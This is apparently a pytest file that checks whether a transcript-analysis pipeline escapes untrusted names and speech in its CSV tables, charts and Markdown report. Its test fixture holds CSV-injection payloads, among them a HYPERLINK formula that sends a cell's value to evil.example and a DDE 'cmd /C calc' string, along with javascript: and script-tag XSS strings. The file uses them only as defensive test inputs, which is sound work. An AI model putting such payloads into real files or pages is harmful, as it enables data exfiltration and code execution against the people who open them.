"""Transcripts are untrusted input: names and speech that look like spreadsheet formulas,
Markdown, mathtext or numbers come out of every stage as the text they were."""

from __future__ import annotations

import copy
import csv
import io
import re
import shutil
from pathlib import Path

import pytest
from _stages import CONFIG, run_pipeline, run_stage, snapshot

EVIL = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "command": "+cmd|' /C calc'!A0",
    "at": "@岸",
    "minus": "-2+3",
    "one": "1",
    "zero_one": "01",
    "math": "$\\alpha$ と $\\foo$ 田中",
    "markdown": "![x](javascript:alert(1))",
}
TOPICS = ["特区の規制緩和と経済特区の議論を進めます。規制改革が大切です。",
          "材料の研究開発とマテリアルの技術を強化します。材料研究が必要です。",
          "安全保障とサイバーセキュリティの情報を守ります。サイバー対策です。"]
MARKUP = ("# 見出し **強調** [リンク](javascript:alert(1)) ![画像](http://evil.example/x.png) "
          "<script>alert(1)</script> ")
THEMES = "themes:\n  =特区: [特区, 規制]\n  $材料$: [材料, マテリアル]\n"


def talk_rows() -> list[dict[str, str]]:
    """Two meetings, every evil name speaking twice about two topics."""
    rows = []
    for n, (key, speaker) in enumerate(EVIL.items()):
        for i in range(2):
            text = TOPICS[(n + i) % 3] + TOPICS[(n + i + 1) % 3]
            if key == "markdown":
                text = MARKUP + text
            elif key == "formula" and i == 0:
                text = "=1+1 " + text
            rows.append({"id": f"={n}.{i}" if i else f"00{n}", "meeting":
                         "=会議A" if i == 0 else "$会議B$", "speaker": speaker,
                         "role": "=役割" if key == "at" else "", "text": text,
                         "committee": "=委員会" if i == 0 else "$\\foo$ **委員会**"})
    return rows


def untrusted_config(themes: Path) -> dict:
    config = copy.deepcopy(CONFIG)
    config["model"].update(n_topics=3, n_seeds=1, themes_file=str(themes))
    config["vectorize"].update(min_df=1, max_df=1.0)
    config["speakers"].update(n_bootstrap=50, min_tokens=1)
    config["ingest"]["columns"]["meeting_attributes"] = {"委員会": "committee"}
    return config


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Path:
    """The whole pipeline, in this process, on a table of evil names and speech."""
    work = tmp_path_factory.mktemp("untrusted")
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, ["id", "meeting", "speaker", "role", "text", "committee"],
                            lineterminator="\n")
    writer.writeheader()
    writer.writerows(talk_rows())
    (work / "talk.csv").write_text(buffer.getvalue(), encoding="utf-8")
    (work / "my_themes.yaml").write_text(THEMES, encoding="utf-8")
    run_pipeline(work, untrusted_config(work / "my_themes.yaml"))
    return work


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


TABLES = ("turns.csv", "doc_topics.csv", "topic_terms.csv", "speaker_topics.csv",
          "role_topics.csv", "meeting_topics.csv", "speaker_terms.csv", "speaker_themes.csv",
          "k_sweep.csv", "topic_prevalence.csv", "meeting_attribute_topics.csv",
          "topic_time.csv", "meetings.csv")
# The tables that hold a name or text from the transcript starting like a formula.
GUARDED = {"turns.csv", "doc_topics.csv", "speaker_topics.csv", "role_topics.csv",
           "meeting_topics.csv", "speaker_terms.csv", "speaker_themes.csv",
           "meeting_attribute_topics.csv", "topic_time.csv", "meetings.csv"}


def test_no_table_holds_a_formula(run):
    guarded = set()
    for name in TABLES:
        for row in cells(run / name):
            for cell in row:
                assert _number(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), \
                    (name, cell)
                if cell.startswith("'") and cell[1:2] in ("=", "+", "-", "@"):
                    guarded.add(name)
    assert guarded == GUARDED
    turns = cells(run / "turns.csv")
    labels = [r[2] for r in turns[1::2]]
    assert labels[:4] == ["'" + EVIL[k] for k in ("formula", "command", "at", "minus")]
    assert any(r[5].startswith("'=1+1 ") for r in turns)


def test_later_stages_read_names_as_written(run):
    # Read back as numbers, `1` and `01` would be one speaker, and every name would then miss
    # its documents ("no content words").
    speakers = [r[0] for r in cells(run / "speaker_topics.csv")[1:]]
    assert speakers.count("1") == speakers.count("01") == 3  # a share of each of 3 topics
    assert set(speakers) == {r[3] for r in cells(run / "turns.csv")[1:]}
    assert len(set(speakers)) == len(EVIL)
    metrics = (run / "speakers.json").read_text(encoding="utf-8")
    assert '"speakers_without_terms": []' in metrics
    themes = {r[1] for r in cells(run / "speaker_themes.csv")[1:]}
    assert themes == {"'=特区", "$材料$"}


def test_dollar_signs_are_text_in_charts(run):
    svg = (run / "charts" / "speaker_topic_heatmap.svg").read_text(encoding="utf-8")
    assert EVIL["math"] in svg  # `$\foo$` is no mathtext symbol: mathtext would fail
    assert {p.name for p in (run / "charts").iterdir()} == {
        "speaker_topic_heatmap.png", "speaker_topic_heatmap.svg", "speaker_group_heatmap.png",
        "top_terms.png",
        "speaker_mix.png", "timeline.png", "k_selection.png", "speaker_themes.png",
        "group_topics.png", "attributes", "meeting_attributes", "cooccurrence_network.png",
        "speaker_term_ca.png"}
    listed = (run / "charts" / "attributes" / "index.txt").read_text(encoding="utf-8")
    drawn = sorted(p.name for p in (run / "charts" / "attributes").glob("*.png"))
    assert listed.split() == drawn or (listed == "none: no speaker attributes\n" and not drawn)
    meeting_charts = (run / "charts" / "meeting_attributes" / "index.txt").read_text(
        encoding="utf-8")
    assert meeting_charts == "委員会_topics.png\n"


def test_markdown_report_renders_speech_as_text(run):
    from markdown_it import MarkdownIt

    md = (run / "report" / "report.md").read_text(encoding="utf-8")
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(md)
    images = re.findall(r'<img src="([^"]*)"', html)
    assert images and all(src.startswith("../charts/") for src in images)  # ours only
    assert "<a " not in html and "<script" not in html
    assert "<strong>" not in html and "<em>" not in html
    headings = [line for line in html.splitlines() if line.startswith("<h")]
    assert not any("見出し" in h for h in headings)
    assert "# 見出し **強調** [リンク](javascript:alert(1))" in html
    assert EVIL["math"] in html and EVIL["markdown"] in html
    assert "$\\foo$ **委員会**" in html  # a meeting attribute's value, as written


def test_a_failing_chart_leaves_every_chart_as_it_was(run, tmp_path, monkeypatch):
    import pipeline.report.charts

    work = tmp_path / "work"
    shutil.copytree(run, work)
    before = snapshot(work)

    def broken(*args, **kwargs):
        fig = pipeline.report.charts.k_selection_chart(*args, **kwargs)
        fig.axes[0].set_title("$\\undefined{x}$", parse_math=True)  # fails when drawn
        return fig

    monkeypatch.setattr(pipeline.report.charts, "k_selection_chart", broken)
    status, errors = run_stage(work, "charts", untrusted_config(work / "my_themes.yaml"))
    assert status == 2
    assert len(errors) == 1 and errors[0].startswith(
        "error: k_selection: matplotlib cannot draw this chart (")
    assert errors[0].endswith("); no chart was replaced; rerun with PIPELINE_DEBUG=1 and "
                              "report the traceback")
    assert snapshot(work) == before
